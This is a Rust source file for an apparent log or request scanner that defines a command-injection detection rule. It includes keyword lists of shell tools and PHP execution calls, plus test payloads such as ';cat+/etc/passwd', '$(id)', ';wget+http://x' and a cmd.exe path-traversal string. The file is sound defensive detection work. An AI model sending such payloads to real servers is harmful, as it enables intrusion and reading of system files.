//! A value carries a command or code that the server would run.

use super::prose::told;
use super::{Place, Rule, Value};

pub(super) const RULE: Rule = Rule {
    id: "command-injection",
    name: "Command injection",
    sentence: "A value carries a command or code that the server would run.",
    technique: "T1059",
    severity: 5,
    place: Place::Values,
    needles: &[STRONG, RUN_MARKS],
    find,
};

const STRONG: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/usr/bin/id",
    "cmd.exe",
    "cmd /c",
    "${ifs}",
    "$ifs",
    "() {",
    "<?php",
    "phpinfo(",
    "shell_exec(",
    "passthru(",
    "base64_decode(",
    "eval(",
    "print(md5(",
    "response.write(",
    "allow_url_include",
    "auto_prepend_file",
    "call_user_func_array",
    "runtime.getruntime",
    "invokefunction",
    "system(",
    "@print(",
];

/// Commands that attackers try first.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "bash",
    "sh",
    "ping",
    "nslookup",
    "rm",
    "chmod",
    "powershell",
    "dir",
    "type",
    "ifconfig",
    "netstat",
    "set",
    "echo",
    "sleep",
];

fn find(value: &Value<'_>) -> Option<(usize, usize)> {
    let text = value.text;
    told(value, STRONG).or_else(|| separated(text)).or_else(|| alone(value))
}

/// A value that is a command and nothing else: one that shows a file of the system, or in an argument that is run.
fn alone(value: &Value<'_>) -> Option<(usize, usize)> {
    let (rest, spaces) = super::trimmed(value.text);
    if value.is_path {
        return None;
    }
    let command = COMMANDS.iter().chain(SHOWING).find(|command| is_word_at(rest, command))?;
    let after = rest[command.len()..].trim_ascii();
    let hit = (spaces, spaces + command.len());
    let shows = after.starts_with(b"/etc/") && !after.iter().any(u8::is_ascii_whitespace);
    let is_run = RUN.iter().any(|name| value.name.eq_ignore_ascii_case(name.as_bytes()));
    let is_sure =
        is_strong(command) || matches!(*command, "id" | "ls") && after.is_empty() || argument(&rest[command.len()..]);
    (shows || is_run && is_sure).then_some(hit)
}

/// Commands that show a file, beside those above.
const SHOWING: &[&str] = &["more", "less", "head", "tail", "tac", "nl"];

/// Arguments whose value a program runs.
const RUN: &[&str] = &["cmd", "exec", "command", "execute", "run", "shell", "daemon", "system"];

/// The same as they stand in a query.
const RUN_MARKS: &[&str] = &["cmd=", "exec=", "command=", "execute=", "run=", "shell=", "daemon=", "system="];

/// Whether a word is a command and nothing else.
fn is_strong(command: &str) -> bool {
    matches!(command, "whoami" | "uname" | "wget" | "curl" | "ifconfig" | "netstat" | "nslookup")
}

/// A mark that parts commands, and one of the commands after it. Behind `&` and `;`, which prose has too, words such as
/// `set` and `id` need an argument or another mark.
fn separated(text: &[u8]) -> Option<(usize, usize)> {
    (0..text.len()).filter(|at| b";|&`\n(".contains(&text[*at])).find_map(|start| {
        let mark = text[start];
        if mark == b'(' && (start == 0 || text[start - 1] != b'$') {
            return None;
        }
        let (rest, spaces) = super::trimmed(&text[start + 1..]);
        let command = COMMANDS.iter().find(|command| is_word_at(rest, command))?;
        let after = &rest[command.len()..];
        // A list of fields has letters before the mark: `name|id`.
        let is_last = matches!(*command, "id" | "ls") && after.is_empty() && spaces == 0;
        let is_alone = is_last && !text[..start].iter().any(u8::is_ascii_alphabetic) && mark != b'(';
        let sure = is_strong(command)
            || argument(after)
            || is_alone
            || matches!(mark, b'(' | b'`') && (after.contains(&b')') || after.contains(&b'`'));
        sure.then_some((start, start + 1 + spaces + command.len()))
    })
}

fn is_word_at(text: &[u8], word: &str) -> bool {
    text.starts_with(word.as_bytes())
        && text.get(word.len()).is_none_or(|byte| !byte.is_ascii_alphanumeric() && *byte != b'=')
}

/// Whether an option, a path or another command follows.
fn argument(after: &[u8]) -> bool {
    let (rest, spaces) = super::trimmed(after);
    match rest.first() {
        Some(b'-') => spaces > 0 && rest.get(1).is_some_and(u8::is_ascii_alphanumeric),
        Some(b'/') => spaces > 0,
        Some(b'|' | b'&' | b';' | b'`' | b'>') => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn ok_hits_and_near_misses() {
        let hits = [
            "/a?x=;cat+/etc/x",
            "/a?x=%7Cwhoami",
            "/a?x=%26uname+-a",
            "/a?x=$(id)",
            "/a?x=%60id%60",
            "/a?x=;wget+http://x",
            "/a?x=|ls+-la",
            "/a?x=/bin/sh",
            "/a?x=cmd.exe",
            "/a?x=phpinfo()",
            "/a?x=%26%26ping+-n+3+x",
            "/a?x=${IFS}",
            "/a?x=set%7Cset%26set",
            "/a?x=/bin/cat+/etc/passwd",
            "/a?x=cat+/etc/passwd",
            "/a?cmd=id",
            "/a?exec=ls+-la",
            "/a?x=1;id",
            "/a?ip=127.0.0.1%7Cls",
            "/a?x=1%0aid",
            "/a?x=eval(base64_decode('aWQ='))",
            "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        ];
        let misses = [
            "/a?q=R%26D+set",
            "/a?q=cats;+dogs",
            "/a?q=name+%26+id",
            "/a?q=a|b",
            "/cat/id",
            "/a?q=ping",
            "/a?q=AT%26T",
            "/a?q=wget+manual",
            "/a?q=costs+$(5)",
            "/a;jsessionid=1",
            "/a?q=evaluate",
            "/a?q=salt%26+id+card",
            "/a?q=difference+of+/bin/sh+and+/bin/bash",
            "/a?q=how+to+open+cmd.exe+as+an+admin",
            "/a?q=python+eval()+function",
            "/a?fields=name|id",
            "/a?sort=date;id",
            "/a?cmd=set",
            "/a?command=type",
            "/a?q=ls",
            "/a?q=id",
            "/cat/etc/passwd-help",
            "/a?q=cat+/etc/passwd+explained",
            "/a?q=man+system(3)",
            "/a?q=eval()+vs+exec()",
        ];
        super::super::check("command-injection", &hits, &misses);
    }
}
